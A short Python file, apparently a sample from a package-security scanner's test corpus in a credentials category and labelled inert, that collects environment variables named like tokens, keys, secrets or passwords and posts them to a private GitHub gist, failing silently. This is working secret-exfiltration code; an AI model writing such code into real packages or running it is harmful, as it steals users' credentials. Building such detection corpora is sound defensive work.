# pkgguard corpus 432 (credentials), modelled on [ctx]; inert, never run.
import json
import os
import urllib.request

wanted = {k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "KEY", "SECRET", "PASS"))}
body = json.dumps({"public": False, "files": {"env.json": {"content": json.dumps(wanted)}}}).encode()
req = urllib.request.Request(
    "https://api.github.com/gists",
    data=body,
    headers={"Authorization": "token " + "ghp_" + "0" * 36, "Content-Type": "application/json"},
)
try:
    urllib.request.urlopen(req, timeout=10)
except OSError:
    pass
